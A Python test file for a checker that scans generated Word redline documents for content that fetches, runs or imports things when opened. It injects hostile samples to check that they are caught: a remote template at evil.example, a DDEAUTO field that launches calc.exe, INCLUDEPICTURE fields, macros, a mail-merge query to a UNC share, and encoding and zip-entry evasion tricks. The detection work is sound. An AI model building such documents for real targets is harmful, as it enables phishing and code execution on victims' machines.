"""docxactions: what a served Word document would fetch, run or import once opened, on the generator's redline with
one thing slipped in."""
from __future__ import annotations

import io
import zipfile

import pytest

from policysite import docxactions, redline
from policysite.redline.docx import render_docx
from unit.test_redline import everything

_EXTERNAL = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="{mode}"/>')


def _redline() -> bytes:
    old, new = everything()
    return render_docx(redline.diff(old, new), author="Zephyr Widgets SAS", lang="en")


def _with(data: bytes, changes: dict[str, bytes]) -> bytes:
    """The document `data` with parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, changes.pop(name, None) or source.read(name))
        for name, part in changes.items():
            target.writestr(name, part)
    return out.getvalue()


def _rels(extra: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{extra}</Relationships>').encode()


def _field(document: bytes, element: str) -> bytes:
    return document.replace(b"<w:body>", b"<w:body><w:p><w:r>" + element.encode() + b"</w:r></w:p>", 1)


@pytest.mark.parametrize(("change", "said"), [
    (lambda doc: {"word/_rels/settings.xml.rels": _rels(_EXTERNAL.format(mode="External"))},
     "word/_rels/settings.xml.rels: https://evil.example/t.dotm"),
    (lambda doc: {"word/_rels/settings.xml.rels": _rels(_EXTERNAL.format(mode="&#69;xternal"))},
     "word/_rels/settings.xml.rels: https://evil.example/t.dotm"),
    (lambda doc: {"word/document.xml": _field(doc, '<w:instrText> INCLUDEPICTURE "https://evil.example/p.png" '
                                                   "</w:instrText>")}, "word/document.xml: <instrText>"),
    (lambda doc: {"word/document.xml": _field(doc, '<x:fldSimple x:instr="DDEAUTO c:\\\\windows\\\\calc.exe"/>')
                  .replace(b"<w:body>", b'<w:body xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/'
                                        b'main">', 1)},
     "word/document.xml: <fldSimple>"),
    # (session 35, safety6) a part in UTF-16, as Office's packages allow, hid its field from a search of its bytes; a
    # part not named .xml (the main document's name is its relationship's, any) was not read
    (lambda doc: {"word/document.xml": b"\xff\xfe" + _field(doc, '<w:instrText> INCLUDEPICTURE "https://evil.example/'
                                                                   'p.png" </w:instrText>').decode().encode("utf-16-le")},
     "word/document.xml: <instrText>"),
    (lambda doc: {"word/main.part": _field(doc, '<w:fldSimple w:instr="INCLUDETEXT https://evil.example/t"/>')},
     "word/main.part: <fldSimple>"),
    (lambda doc: {"[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.'
                                         'macroEnabled.main+xml"/></Types>'.encode("utf-16")}, "macroEnabled"),
    (lambda doc: {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "word/vbaProject.bin"),
    (lambda doc: {"word/embeddings/oleObject1.bin": b"x"}, "word/embeddings/oleObject1.bin"),
    (lambda doc: {"[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-word.document.'
                                         b'macroEnabled.main+xml"/></Types>'}, "macroEnabled"),
])
def test_what_word_would_fetch_run_or_import_is_named(change, said):
    """A hand commit named as a rebuild could replace a version's redline (its digest in the manifest) by one whose
    settings fetch a remote template on opening (phishing documents' way; an attribute written with a character
    reference is the same to Word), a field including a picture from an address or running a program (in any prefix of
    Word's namespace), a macro or an embedded object: nothing read served Word documents. Named now; the generator's
    own redline holds none."""
    data = _redline()
    assert docxactions.docx_action(data) == ""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        document = archive.read("word/document.xml")
    assert docxactions.docx_action(_with(data, change(document))) == said


def _settings(doc: bytes, element: str) -> dict[str, bytes]:
    """settings.xml with `element` before its end (its own namespace prefix, `w:`)."""
    with zipfile.ZipFile(io.BytesIO(_redline())) as archive:
        settings = archive.read("word/settings.xml")
    return {"word/settings.xml": settings.replace(b"</w:settings>", element.encode() + b"</w:settings>", 1)}


@pytest.mark.parametrize(("change", "said"), [
    # OPC compares part names without case: `settings.xml.RELS` is settings.xml's relationships part to Word
    (lambda doc: {"word/_rels/settings.xml.RELS": _rels(_EXTERNAL.format(mode="External"))},
     "word/_rels/settings.xml.RELS: https://evil.example/t.dotm"),
    # a mail merge's data source, queried by Word on opening: a workbook on another machine's share
    (lambda doc: _settings(doc, '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT * FROM '
                                '\\\\evil.example\\share\\data.xlsx"/></w:mailMerge>'), "word/settings.xml: <mailMerge>"),
    # a VML picture, whose imagedata links a file by `src` as well as by a relationship
    (lambda doc: {"word/document.xml": _field(doc, '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                                                   '<v:imagedata src="\\\\evil.example\\s\\x.png"/></v:shape></w:pict>')},
     "word/document.xml: <pict>"),
    # (tidy1) a custom XML schema attached by its URI, and the settings' schema library giving its location: what an
    # application may load on opening (ECMA-376 Part 1, 17.15.1.5 and §23)
    (lambda doc: _settings(doc, '<w:attachedSchema w:val="https://evil.example/schema"/>'),
     "word/settings.xml: <attachedSchema>"),
    (lambda doc: _settings(doc, '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
                                '<sl:schema sl:uri="urn:x" sl:schemaLocation="https://evil.example/x.xsd"/>'
                                '</sl:schemaLibrary>'), "word/settings.xml: <schemaLibrary>"),
    # a MIME type is read without case
    (lambda doc: {"[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-word.document.'
                                         b'MacroEnabled.main+xml"/></Types>'}, "macroEnabled"),
])
def test_what_word_reads_of_a_part_named_in_another_case_or_a_merge_or_picture_is_named(change, said):
    """Session 39, safety51: a served redline forged with its settings' relationships part named `.RELS` (the same
    part to Word, which compares part names without case) fetched a remote template unseen, and a mail merge's data
    source or a VML picture linked by `src` passed. Named now; the generator's own redline holds none."""
    data = _redline()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        document = archive.read("word/document.xml")
    assert docxactions.docx_action(_with(data, change(document))) == said


def test_a_part_written_twice_or_encrypted_is_named_without_a_traceback():
    """Session 39, safety51: a package holding a part twice had the last read twice (zipfile opens a name's last entry)
    and the first, fetching a remote template, never read; an encrypted entry raised RuntimeError out of the check (a
    traceback from `policy publish`). Each is named: no document Word opens as written."""
    data = _redline()
    hostile = _rels(_EXTERNAL.format(mode="External"))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        target.writestr("word/_rels/settings.xml.rels", hostile)
        for name in source.namelist():
            if name != "word/_rels/settings.xml.rels":
                target.writestr(name, source.read(name))
        with pytest.warns(UserWarning, match="Duplicate name"):
            target.writestr("word/_rels/settings.xml.rels", _rels(""))
    assert docxactions.docx_action(out.getvalue()) == "word/_rels/settings.xml.rels: https://evil.example/t.dotm"
    twice = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(twice, "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.writestr("WORD/DOCUMENT.XML", source.read("word/document.xml"))
    assert docxactions.docx_action(twice.getvalue()) == "WORD/DOCUMENT.XML: twice"
    assert docxactions.docx_action(_encrypted(_with(data, {"word/extra.xml": b"<x/>"}), "word/extra.xml")) \
        == "word/extra.xml"


def _encrypted(data: bytes, name: str) -> bytes:
    """`data` with the entry `name` flagged as encrypted (bit 0 of its flags, in its local and central headers)."""
    flagged = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    flagged[local + 6] |= 1
    central = data.find(b"PK\x01\x02")
    while central != -1:
        length = int.from_bytes(data[central + 28:central + 30], "little")
        if data[central + 46:central + 46 + length] == name.encode():
            flagged[central + 8] |= 1
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(flagged)
